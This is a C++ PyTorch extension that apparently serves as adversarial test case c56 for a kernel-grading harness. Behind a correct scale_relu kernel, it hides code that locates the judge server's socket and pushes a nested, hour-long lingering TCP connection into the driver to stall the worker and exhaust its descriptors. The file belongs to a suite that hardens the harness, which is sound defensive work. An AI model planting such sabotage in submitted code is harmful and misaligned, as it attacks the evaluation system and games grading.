// Case c56 (red team 7, D1): the honest slow kernel; at the first call, native code hides c54's lingering TCP
// connection (SO_LINGER {1, 3600 s}, a full send buffer the other end never drains) where a descriptor closer that
// looks into what it receives gives up: queued in a Unix datagram socket, whose receiving end is queued in a second
// one, and so on 6 sockets deep; the outermost end waits, behind 6 messages of 253 /dev/null descriptors, in the
// queue of the socket that goes to the driver on the server's protocol socket. Before the closer process (b4eb066 and
// earlier) the driver drained such queues within a budget and depth, so the last close of the outer socket, on the
// worker's closer thread, released the queues and blocked in tcp_close for the linger time: every descriptor queued
// behind it (the fillers the drain had taken, then each later evaluation's channel and arena) stayed open in the
// reference worker, and at a full descriptor table the driver itself blocked. Now every socket a server sent goes to a closer process, killed
// when it does not confirm within 1 s: the call is the candidate's -1 and the worker keeps nothing
// (tests/adversarial/test_adversarial.py checks its descriptors after every native case).
#include <torch/extension.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>
#include "binding_registry.h"

void scale_relu_cpu(const float* x, float* y, int64_t n, float scale);

namespace {

const int kLingerS = 3600;
const int kDepth = 6;         // Unix sockets, each queued in the next
const int kFillerMsgs = 6;    // messages of /dev/null descriptors ahead of the nest
const int kPerMsg = 253;      // SCM_MAX_FD

int server_fd() {  // /proc/self/cmdline: python -m cuda_gym.judge.candidate_server FD ...
    FILE* f = fopen("/proc/self/cmdline", "rb");
    if (!f) return -1;
    static char buf[8192];
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    std::vector<std::string> args;
    for (size_t i = 0; i < n;) { args.emplace_back(buf + i); i += args.back().size() + 1; }
    for (size_t i = 0; i + 1 < args.size(); ++i)
        if (args[i] == "cuda_gym.judge.candidate_server") return atoi(args[i + 1].c_str());
    return -1;
}

ssize_t send_fds(int sock, const int* fds, int n) {
    char one = 'x';
    iovec io{&one, 1};
    static char ctl[CMSG_SPACE(kPerMsg * sizeof(int))];
    msghdr m{};
    m.msg_iov = &io;
    m.msg_iovlen = 1;
    m.msg_control = ctl;
    m.msg_controllen = CMSG_SPACE(n * sizeof(int));
    cmsghdr* h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(n * sizeof(int));
    memcpy(CMSG_DATA(h), fds, n * sizeof(int));
    return sendmsg(sock, &m, 0);
}

// Both ends of a loopback TCP connection whose sending end lingers behind a full buffer; -1s on failure.
void lingering_pair(int out[2]) {
    out[0] = out[1] = -1;
    int lst = socket(AF_INET, SOCK_STREAM, 0);
    int small = 4096;
    setsockopt(lst, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(lst, reinterpret_cast<sockaddr*>(&a), sizeof a) || listen(lst, 1)) { perror("c56 listen"); return; }
    socklen_t len = sizeof a;
    getsockname(lst, reinterpret_cast<sockaddr*>(&a), &len);
    int c = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(c, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
    if (connect(c, reinterpret_cast<sockaddr*>(&a), sizeof a)) { perror("c56 connect"); return; }
    out[1] = accept(lst, nullptr, nullptr);
    close(lst);
    linger lg{1, kLingerS};
    setsockopt(c, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
    fcntl(c, F_SETFL, O_NONBLOCK);
    static char junk[65536];
    while (send(c, junk, sizeof junk, 0) > 0) {}  // until EAGAIN: the accepted end never reads
    out[0] = c;
}

void plant_queued_linger() {
    const int sfd = server_fd();
    if (sfd < 0) return;
    int tcp[2];
    lingering_pair(tcp);
    if (tcp[0] < 0) return;
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) { perror("c56 socketpair"); return; }
    send_fds(pair[1], tcp, 2);
    close(tcp[0]);
    close(tcp[1]);
    close(pair[1]);
    int held = pair[0];  // the receiving end whose queue holds everything so far
    for (int level = 1; level < kDepth; ++level) {
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) { perror("c56 socketpair"); return; }
        send_fds(pair[1], &held, 1);
        close(held);
        close(pair[1]);
        held = pair[0];
    }
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) { perror("c56 socketpair"); return; }
    int fillers[kPerMsg];
    const int devnull = open("/dev/null", O_RDONLY);
    for (int& fd : fillers) fd = devnull;
    int queued = 0;
    for (int k = 0; k < kFillerMsgs; ++k) queued += send_fds(pair[1], fillers, kPerMsg) > 0;
    send_fds(pair[1], &held, 1);  // the nest, behind the fillers
    close(devnull);
    close(held);
    close(pair[1]);
    const ssize_t r = send_fds(sfd, &pair[0], 1);
    fprintf(stderr, "c56: lingering pair %d sockets deep behind %d filler messages, sent on socket %d: %zd\n",
            kDepth, queued, sfd, r);
    close(pair[0]);  // the driver holds the only references now
}

int g_calls = 0;

}  // namespace

static torch::Tensor scale_relu(torch::Tensor x, double scale) {
    TORCH_CHECK(x.is_contiguous() && x.scalar_type() == torch::kFloat32, "x must be contiguous float32");
    if (g_calls++ == 0) plant_queued_linger();
    auto y = torch::empty_like(x);
    scale_relu_cpu(x.data_ptr<float>(), y.data_ptr<float>(), x.numel(), static_cast<float>(scale));
    return y;
}

static void register_scale_relu(pybind11::module_& m) {
    m.def("scale_relu", &scale_relu, "relu(x * scale)");
}

REGISTER_BINDING(scale_relu, register_scale_relu);
